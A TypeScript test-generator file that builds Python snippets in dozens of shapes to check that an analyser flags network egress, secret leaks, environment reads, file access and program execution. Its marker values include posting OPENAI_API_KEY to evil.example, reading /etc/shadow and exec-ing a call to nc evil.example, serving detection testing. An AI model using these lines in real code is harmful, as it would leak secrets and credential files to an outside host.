/** Shapes of Python that use one of many values. */
import { behind, lines, list, quote, type Use } from './many-values.ts';

export const pythonUses: Readonly<Record<string, Use>> = {
  'an address': {
    code: (x) => `requests.get(${x})`,
    harmless: (index) => `https://g${index}.example/x`,
    telling: 'https://evil.example/x',
    seen: /^egress GET https:\/\/(evil\.example\/x|\*\/\*)$/,
    away: /^egress \S+ https:\/\/\*/,
  },
  'a receiver': {
    code: (x) => `requests.post(${x}, data=os.environ["OPENAI_API_KEY"])`,
    harmless: (index) => `https://g${index}.openai.com/x`,
    telling: 'https://evil.example/x',
    seen: /^flow\/secret-to-(network critical|computed-host medium)$/,
    away: /^flow\/secret-to-(network critical|computed-host)|^egress \S+ https:\/\/\*/,
  },
  'a host': {
    code: (x) => `socket.create_connection((${x}, 443))`,
    harmless: (index) => `g${index}.example`,
    telling: 'evil.example',
    seen: /^egress \S+ tcp:\/\/(evil\.example|\*):443/,
    away: /^egress \S+ tcp:\/\/\*/,
  },
  'a variable': {
    code: (x) => `print(os.environ[${x}])`,
    harmless: (index) => `GOOD_${index}`,
    telling: 'OPENAI_API_KEY',
    seen: /^env (OPENAI_API_KEY|\*)$/,
    away: /^env \*$/,
  },
  'a file': {
    code: (x) => `print(open(${x}).read())`,
    harmless: (index) => `/good/a${index}`,
    telling: '/etc/shadow',
    seen: /^mount ro (\/etc\/shadow|\/?\*)$/,
    away: /^mount \S+ \/?\*$/,
  },
  'a program': {
    code: (x) => `subprocess.run([${x}, "-x"])`,
    harmless: (index) => `tool${index}`,
    telling: 'nc',
    seen: /^exec (nc|\*)$/,
    away: /^exec \*$/,
  },
  code: {
    code: (x) => `exec(${x})`,
    harmless: (index) => `print(${index})`,
    telling: 'import os; os.system("nc evil.example")',
    seen: /^exec nc$|^code-from-string$/,
    away: /^code-from-string$/,
  },
  'a name': {
    code: (x) => `getattr(os, ${x})("nc -x")`,
    harmless: (index) => `get${index}pid`,
    telling: 'system',
    seen: /^exec nc$|^escape$/,
    away: /^escape$/,
  },
};

export const pythonShapes = behind('import os, random, requests, socket, subprocess, sys\n', {
  'a loop over a list': (all, use) => `for x in [${list(all)}]:\n    ${use('x')}\n`,
  'a loop over a named list': (all, use) => `XS = [${list(all)}]\nfor x in XS:\n    ${use('x')}\n`,
  'a loop over pairs': (all, use) =>
    `for a, x in [${all.map((one, at) => `("n${at}", ${quote(one)})`).join(', ')}]:\n    ${use('x')}\n`,
  'a loop over the values of a dictionary': (all, use) =>
    `D = {${all.map((one, at) => `"n${at}": ${quote(one)}`).join(', ')}}\n` +
    `for k, x in D.items():\n    ${use('x')}\n`,
  'a loop over dictionaries': (all, use) =>
    `A = [${all.map((one) => `{"u": ${quote(one)}}`).join(', ')}]\nfor y in A:\n    ${use('y["u"]')}\n`,
  'a loop over keys': (all, use) =>
    `D = {${all.map((one, at) => `"n${at}": ${quote(one)}`).join(', ')}}\n` +
    `for k in [${all.map((_, at) => `"n${at}"`).join(', ')}]:\n    x = D[k]\n    ${use('x')}\n`,
  'an index that is counted up': (all, use) =>
    `XS = [${list(all)}]\ni = 0\nwhile i < len(XS):\n    ${use('XS[i]')}\n    i += 1\n`,
  'values taken from the front, by chance': (all, use) =>
    `XS = [${list(all)}]\nwhile XS:\n    x = XS.pop(0)\n    ${use('x')}\n`,
  'an index from outside, by chance': (all, use) =>
    `XS = [${list(all)}]\n${use('XS[int(sys.argv[1])]')}\n`,
  'a key from outside, by chance': (all, use) =>
    `D = {${all.map((one, at) => `"n${at}": ${quote(one)}`).join(', ')}}\n${use('D[sys.argv[1]]')}\n`,
  'a comprehension': (all, use) => `[${use('x')} for x in [${list(all)}]]\n`,
  'a parameter': (all, use) => `def f(x):\n    ${use('x')}\n${lines(all, (one) => `f(${one})`)}\n`,
  'a parameter of a caller': (all, use) =>
    `def f(x):\n    ${use('x')}\ndef g(y):\n    f(y)\n${lines(all, (one) => `g(${one})`)}\n`,
  'a branch': (all, use) =>
    `a = sys.argv[1]\n${lines(all, (one, at) => `${at === 0 ? 'if' : 'elif'} a == "${at}":\n    x = ${one}`)}\n${use('x')}\n`,
  'a match': (all, use) =>
    `match sys.argv[1]:\n${lines(all, (one, at) => `    case "${at}":\n        x = ${one}`)}\n${use('x')}\n`,
  'a choice of choices': (all, use) =>
    `a = sys.argv[1]\nx = ${all.map((one, at) => (at === all.length - 1 ? quote(one) : `${quote(one)} if a == "${at}" else `)).join('')}\n${use('x')}\n`,
  'what a function returns': (all, use) =>
    `def pick(a):\n${lines(all, (one, at) => `    if a == "${at}":\n        return ${one}`)}\nx = pick(sys.argv[1])\n${use('x')}\n`,
  'a property': (all, use) =>
    `class C:\n    @property\n    def x(self):\n${lines(all, (one, at) => `        if sys.argv[1] == "${at}":\n            return ${one}`)}\n${use('C().x')}\n`,
  'a global given often': (all, use) =>
    `def go():\n    global x\n    ${use('x')}\n${lines(all, (one) => `x = ${one}\ngo()`)}\n`,
  'a sum': (all, use) => `for y in [${list(all)}]:\n    x = "" + y + ""\n    ${use('x')}\n`,
  'a format': (all, use) =>
    `for y in [${list(all)}]:\n    x = "{a}".format(a=y)\n    ${use('x')}\n`,
  'a percent sign': (all, use) =>
    `for y in [${list(all)}]:\n    x = "%s%s" % (y, "")\n    ${use('x')}\n`,
  'a replaced part': (all, use) =>
    `for y in [${list(all)}]:\n    x = "@".replace("@", y)\n    ${use('x')}\n`,
  'joined parts': (all, use) =>
    `for y in [${list(all)}]:\n    x = "".join([y, ""])\n    ${use('x')}\n`,
  'words of a text': (all, use) =>
    `for x in ${quote(all.join('|'))}.split("|"):\n    ${use('x')}\n`,
  'a path with an absolute end': (all, use) =>
    `for y in [${list(all)}]:\n    x = os.path.join("", y)\n    ${use('x')}\n`,
  'a list of a class': (all, use) =>
    `class C:\n    xs = [${list(all)}]\n    def go(self):\n        for x in self.xs:\n            ${use('x')}\nC().go()\n`,
  'an attribute': (all, use) =>
    `class C:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        ${use('self.x')}\n${lines(all, (one) => `C(${one}).go()`)}\n`,
  'a field of a data class': (all, use) =>
    `from dataclasses import dataclass\n@dataclass\nclass C:\n    x: str\n    def go(self):\n        ${use('self.x')}\n${lines(all, (one) => `C(${one}).go()`)}\n`,
  'joined lists': (all, use) =>
    `A = [${list(all.slice(0, -1))}]\nfor x in A + [${list(all.slice(-1))}]:\n    ${use('x')}\n`,
  'a generator': (all, use) =>
    `def g():\n${lines(all, (one) => `    yield ${one}`)}\nfor x in g():\n    ${use('x')}\n`,
  'a function that is mapped': (all, use) =>
    `def f(x):\n    ${use('x')}\nlist(map(f, [${list(all)}]))\n`,
  'numbered values': (all, use) => `for i, x in enumerate([${list(all)}]):\n    ${use('x')}\n`,
  'an item by chance': (all, use) => `x = random.choice([${list(all)}])\n${use('x')}\n`,
  'a list that is filled': (all, use) =>
    `A = []\n${lines(all, (one) => `A.append(${one})`)}\nfor x in A:\n    ${use('x')}\n`,
});
